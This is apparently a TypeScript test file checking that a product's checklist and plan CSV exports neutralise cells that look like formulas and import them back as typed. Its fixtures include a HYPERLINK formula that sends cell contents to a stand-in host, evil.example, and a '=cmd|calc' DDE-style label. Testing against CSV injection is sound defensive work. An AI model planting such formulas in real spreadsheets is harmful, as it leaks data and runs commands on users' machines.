import { describe, expect, it } from 'vitest';
import { exportChecklist, type ExportFavorite } from '@/lib/checklist/export';
import { readChecklist } from '@/lib/checklist/parse';
import { planFile, planToCsv } from '@/lib/plan/plan-file';
import { readPlanFile } from '@/lib/plan/read-plan-file';
import type { PlanStopData } from '@/lib/plan/plan-day-data';

// Issue 32, finding 3, through the two CSV files the product writes: a memo, a circle's texts or a
// colour label that starts like a formula is written neutralised and imported back as typed.

const formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

const favorite: ExportFavorite = {
  circle: {
    circleNumber: 31, day: '土', area: 'EAST', block: 'ア', spaceNumber: 2, side: 'a', genreCode: 111,
    name: '@Circle', author: '+Author', description: '-1+2', mapX: -40, mapY: 15,
  },
  color: 3,
  memo: formula,
};

describe('the checklist CSV', () => {
  it('writes cells that start like formulas with a quote in front, and numbers as they are', () => {
    const { text } = exportChecklist([favorite], { eventCode: 'C999', programVersion: '1', colorLabels: [{ color: 3, label: '=cmd|calc' }] });
    expect(text).toContain(`"'${formula.replaceAll('"', '""')}"`);
    for (const cell of [`"'@Circle"`, `"'+Author"`, `"'-1+2"`, `"'=cmd|calc"`, '"-40"']) expect(text).toContain(cell);
    expect(text).not.toMatch(/(^|,)"[=+@]/m);
  });

  it('imports them back as the member typed them', () => {
    const parsed = readChecklist(exportChecklist([favorite], { eventCode: 'C999', programVersion: '1', colorLabels: [{ color: 3, label: '=cmd|calc' }] }).bytes);
    const row = parsed.rows[0];
    if (row?.kind !== 'circle') throw new Error('expected a Circle row');
    expect(row.circle).toMatchObject({ memo: formula, name: '@Circle', author: '+Author', description: '-1+2', mapX: -40 });
    expect(parsed.colors).toMatchObject([{ description: '=cmd|calc' }]);
  });
});

describe('the plan file CSV', () => {
  const stop = { circleId: 5, space: 'A-01a', name: '=1+1', visit: 'NOT_VISITED', pinned: false, plannedYen: null, plannedWorkIds: [] } as unknown as PlanStopData;

  it('writes a circle name that starts like a formula neutralised, and reads it back unchanged', () => {
    const csv = planToCsv(planFile(1, 'EAST-1', [stop]));
    expect(csv).toContain(`"'=1+1"`);
    expect(readPlanFile(csv).stops[0]).toMatchObject({ name: '=1+1' });
  });
});
